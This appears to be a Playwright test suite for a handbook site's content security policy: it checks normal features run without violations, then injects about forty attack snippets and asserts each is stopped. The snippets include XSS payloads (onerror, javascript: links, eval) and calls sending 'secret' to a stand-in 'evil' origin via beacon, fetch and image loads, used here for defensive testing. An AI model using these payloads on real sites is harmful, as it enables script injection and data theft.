import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { violationsOf } from "./violations";

const TOPIC = "/docs/microservices-patterns/circuit-breaker";

/** A page with its scripts running, and everything that was stopped or asked of others. */
async function open(page: Page, address: string, baseURL: string | undefined) {
  const foreign: string[] = [];
  page.on("request", (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol.startsWith("http") && origin !== baseURL) foreign.push(request.url());
  });
  const violations = await violationsOf(page);
  await page.goto(address);
  await page.mouse.move(5, 5);
  await expect(page.locator("html")).toHaveAttribute("data-has-hydrated", "true");
  return {
    /** Nothing may have been stopped: every part of the site keeps the policy. */
    expectNone: () => expect({ violations, foreign }).toEqual({ violations: [], foreign: [] }),
  };
}

test.describe("everything works under the content policy:", () => {
  test("themes, search, links inside the site, and back", async ({ page, baseURL }) => {
    const { expectNone } = await open(page, "/", baseURL);
    const theme = page.locator("html");
    const before = await theme.getAttribute("data-theme");
    await page.getByRole("button", { name: /dark and light mode/ }).click();
    await page.getByRole("button", { name: /dark and light mode/ }).click();
    await expect(theme).not.toHaveAttribute("data-theme", before ?? "");
    await page.keyboard.press("/");
    await page.getByRole("combobox", { name: "Search the handbook" }).fill("circuit breaker");
    await page.getByRole("dialog", { name: "Search" }).getByRole("option").first().click();
    await expect(page).toHaveURL(/circuit-breaker/);
    await page.getByRole("contentinfo").getByRole("link", { name: /^2\. / }).click();
    await page.locator(`article a[href="${TOPIC}"]`).first().click();
    // The page that is navigated to sets its drawings, listings and headings as checked markup.
    await expect(page.locator(".dg-drawing svg:visible").first()).toBeVisible();
    await expect(page.locator("pre code .token").first()).toBeAttached();
    await expect(page.locator(".table-of-contents a").first()).toBeVisible();
    await page.locator(".pagination-nav__link--next").click();
    await expect(page).not.toHaveURL(/circuit-breaker/);
    await page.goBack();
    await expect(page.getByRole("heading", { level: 1 })).toContainText("Circuit breaker", { ignoreCase: true });
    await expectNone();
  });

  test("a topic's diagram, listing, quiz and lab", async ({ page, baseURL, context }) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    const { expectNone } = await open(page, TOPIC, baseURL);
    await page.getByRole("button", { name: "Full screen" }).first().click();
    const dialog = page.locator("dialog[open]");
    await expect(dialog.locator("svg, pre").first()).toBeVisible();
    await page.keyboard.press("+");
    await page.keyboard.press("Escape");
    await expect(dialog).toHaveCount(0);
    const copy = page.locator("button[aria-label^='Copy ']").first();
    await copy.click();
    await expect(copy).toHaveText("Copied");
    const card = page.locator("section[data-quiz=quiz]").last().locator("article[data-kind=single]").first();
    await card.locator("input[data-choice]").first().check();
    await card.locator("[data-check]").click();
    await expect(card).toHaveAttribute("data-answered", "true");
    const lab = page.locator("section[data-lab]").first();
    await lab.scrollIntoViewIfNeeded();
    await expect(lab).toHaveAttribute("data-live", "true");
    await lab.locator("[data-act=step]").click();
    await expect(lab.locator("[data-clock]")).toContainText("event 1");
    await expectNone();
  });

  test("a lab's fifty runs in a worker", async ({ page, baseURL }) => {
    const workers: string[] = [];
    page.on("worker", (worker) => workers.push(worker.url()));
    const { expectNone } = await open(page, "/labs/circuit-breaker", baseURL);
    const lab = page.locator("section[data-lab]");
    await expect(lab).toHaveAttribute("data-live", "true");
    await lab.locator("[data-act=band]").click();
    await expect(lab.locator("[data-band=done]")).toBeVisible({ timeout: 30_000 });
    expect(workers).toHaveLength(1);
    await expectNone();
  });

  test("the menu of a phone", async ({ page, baseURL }) => {
    await page.setViewportSize({ width: 360, height: 800 });
    const { expectNone } = await open(page, TOPIC, baseURL);
    await page.getByRole("button", { name: "Toggle navigation bar" }).click();
    await expect(page.locator(".navbar-sidebar")).toBeVisible();
    await page.keyboard.press("Escape");
    await page.emulateMedia({ media: "print" });
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await expectNone();
  });

  for (const address of [
    "/practice/mock",
    "/practice/drills",
    "/practice/review",
    "/practice/diagnostic",
    "/search?q=saga",
  ])
    test(`${address}, begun`, async ({ page, baseURL }) => {
      const { expectNone } = await open(page, address, baseURL);
      const begin = page.getByRole("main").getByRole("button").or(page.getByRole("main").getByRole("link")).first();
      await expect(begin).toBeVisible();
      await begin.click();
      await expect(page.getByRole("heading", { level: 1 }).first()).toBeVisible();
      await expectNone();
    });
});

/** Tells that something ran that must not, from wherever it ran. */
type Ran = (what: string) => void;

/**
 * What code on a page might try. `evil` is an origin that is not ours. Each has to be stopped, and
 * the policy has to say so. They are the page's own code when they run: what a test evaluates is beyond the policy.
 */
const ATTACKS: Readonly<Record<string, (evil: string) => unknown>> = {
  "text of a script": () => {
    const script = document.createElement("script");
    script.textContent = "ran('script text')";
    document.head.append(script);
  },
  "a text node in a script": () => {
    const script = document.createElement("script");
    script.append("ran('text node')");
    document.head.append(script);
  },
  "address of a script, foreign": (evil) => {
    const script = document.createElement("script");
    script.src = `${evil}/script.js`;
    document.head.append(script);
  },
  "address of a script, own": () => {
    const script = document.createElement("script");
    script.src = "/assets/evil.js";
    document.head.append(script);
  },
  "address of a script as an attribute": (evil) => {
    const script = document.createElement("script");
    script.setAttribute("src", `${evil}/script.js`);
    document.head.append(script);
  },
  innerHTML: () => {
    document.createElement("div").innerHTML = "<img src=x onerror=\"ran('innerHTML')\">";
  },
  outerHTML: () => {
    const div = document.createElement("div");
    document.body.append(div);
    div.outerHTML = "<img src=x onerror=\"ran('outerHTML')\">";
  },
  insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", "<svg onload=\"ran('adjacent')\">"),
  "document.write": () => document.write("<p>"),
  DOMParser: () => new DOMParser().parseFromString("<p>", "text/html"),
  createContextualFragment: () => document.createRange().createContextualFragment("<p>"),
  setHTMLUnsafe: () => (document.body.appendChild(document.createElement("div")) as Element).setHTMLUnsafe("<p>"),
  "an event attribute": () => document.body.setAttribute("onclick", "ran('attribute')"),
  srcdoc: () => {
    const frame = document.createElement("iframe");
    frame.srcdoc = "<script>parent.ran('srcdoc')</script>";
    document.body.append(frame);
  },
  "a link that runs": () => {
    const link = document.createElement("a");
    link.href = "javascript:ran('link')";
    document.body.append(link);
    link.click();
  },
  "a foreign frame": (evil) => {
    const frame = document.createElement("iframe");
    frame.src = `${evil}/frame.html`;
    document.body.append(frame);
  },
  "a base": (evil) => {
    const base = document.createElement("base");
    base.href = evil;
    document.head.append(base);
  },
  "a foreign form": (evil) => {
    const form = document.createElement("form");
    form.action = `${evil}/form`;
    document.body.append(form);
    form.submit();
  },
  "a foreign picture": (evil) => {
    new Image().src = `${evil}/picture.png?secret`;
  },
  "a foreign style sheet": (evil) => {
    const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${evil}/style.css` });
    document.head.append(link);
  },
  "a style element": () => {
    const style = document.createElement("style");
    style.textContent = "body{display:none}";
    document.head.append(style);
  },
  "a style attribute": () => document.body.setAttribute("style", "display:none"),
  fetch: (evil) => fetch(`${evil}/fetch`),
  beacon: (evil) => navigator.sendBeacon(`${evil}/beacon`, "secret"),
  XMLHttpRequest: (evil) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${evil}/xhr`);
    request.send();
  },
  WebSocket: (evil) => new WebSocket(`${evil.replace("http", "ws")}/socket`),
  EventSource: (evil) => new EventSource(`${evil}/events`),
  "an imported module": (evil) => import(/* @vite-ignore */ `${evil}/module.js`),
  "an imported module in its address": () => {
    const address = "data:text/javascript,ran('data module')";
    return import(/* @vite-ignore */ address);
  },
  eval: () => (Reflect.get(globalThis, "eval") as (code: string) => unknown)("ran('eval')"),
  Function: () => new Function("ran('Function')")(),
  "a timer with text": () => setTimeout("ran('timer')" as unknown as () => void, 0),
  "a worker, own file": () => new Worker("/assets/evil.js"),
  "a worker of text": () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
  "a shared worker": () => new SharedWorker("/assets/evil.js"),
  "another service worker": () => navigator.serviceWorker.register("/assets/evil.js"),
  "a foreign object": (evil) => {
    const object = document.createElement("object");
    object.data = `${evil}/object`;
    document.body.append(object);
  },
  "an own policy": () =>
    (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes //
      .createPolicy("evil", { createHTML: (html: string) => html }),
  "a second default policy": () =>
    (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes //
      .createPolicy("default", { createHTML: (html: string) => html }),
  "a second policy of markup": () =>
    (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes //
      .createPolicy("half-open#markup", { createHTML: (html: string) => html }),
  "a second policy of the runner": () =>
    (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes //
      .createPolicy("half-open#runner", { createHTML: (html: string) => html }),
};

/** What became of each attack: who stopped it, or nothing. Runs in the page. */
async function runAttacks(attacks: Record<string, (evil: string) => unknown>, evil: string) {
  const ran: string[] = [];
  const outcomes: Record<string, string> = {};
  // Once the page lives its own policies are made; before, every sink is closed.
  while (document.documentElement.dataset["hasHydrated"] !== "true")
    await new Promise((resolve) => setTimeout(resolve, 50));
  Object.assign(globalThis, { ran: ((what) => ran.push(what)) satisfies Ran });
  for (const [name, attack] of Object.entries(attacks)) {
    const stopped = new Promise<string>((resolve) => {
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective), {
        once: true,
      });
      // Nothing said for so long means that it was let through.
      setTimeout(resolve, 1000, "nothing");
    });
    // Some throw as well, or reject; what counts is who said that it was stopped.
    await Promise.resolve(evil)
      .then(attack)
      .catch(() => undefined);
    outcomes[name] = await stopped;
    // Behind a header that says the same as the page there are two policies, and the second one's word is not the next attack's.
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  Object.assign(globalThis, { attacked: { ran, outcomes } });
}

test.describe("an attacker's code on the page", () => {
  // The browser's own registration is attacked, not the test runner's refusal.
  test.use({ serviceWorkers: "allow" });
  let server: Server;
  const heard: string[] = [];

  test.beforeAll(async () => {
    server = createServer((request, response) => {
      heard.push(request.url ?? "");
      response.setHeader("access-control-allow-origin", "*").end();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  });
  test.afterAll(() => new Promise((resolve) => server.close(resolve)));

  test(`${Object.keys(ATTACKS).length} attacks are stopped, and nobody hears of them`, async ({ page }) => {
    const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const list = Object.entries(ATTACKS).map(([name, attack]) => `${JSON.stringify(name)}: ${attack.toString()}`);
    const code = `(${runAttacks.toString()})({${list.join(",\n")}}, ${JSON.stringify(evil)})`;
    await page.route("**/attacks.js", (route) => route.fulfill({ contentType: "text/javascript", body: code }));
    await page.route("**/assets/evil.js", (route) =>
      route.fulfill({
        contentType: "text/javascript",
        body: "globalThis.ran?.('own file'); globalThis.postMessage?.(1)",
      }),
    );
    // As if the file had been part of the site: a script of our own origin, at the end of a page that keeps its policy.
    await page.route(`**${TOPIC}`, async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace("</body>", `<script src="/attacks.js" defer></script></body>`);
      await route.fulfill({ response, body });
    });
    const said: string[] = [];
    page.on("console", (message) => said.push(message.text()));
    await page.goto(TOPIC, { waitUntil: "commit" });
    await page.mouse.move(5, 5);
    await page.waitForFunction(() => "attacked" in globalThis, undefined, { timeout: 40_000 });
    const { ran, outcomes } = await page.evaluate(
      () => (globalThis as unknown as { attacked: { ran: string[]; outcomes: Record<string, string> } }).attacked,
    );
    expect(Object.keys(outcomes)).toEqual(Object.keys(ATTACKS));
    // Chromium stops this one on the console only.
    expect(said.join("\n")).toContain("An HTMLScriptElement was directly modified and will not be executed");
    const unsaid = Object.keys(outcomes).filter((name) => outcomes[name] === "nothing");
    expect(unsaid).toEqual(["a text node in a script"]);
    expect(ran).toEqual([]);
    expect(heard).toEqual([]);
  });
});
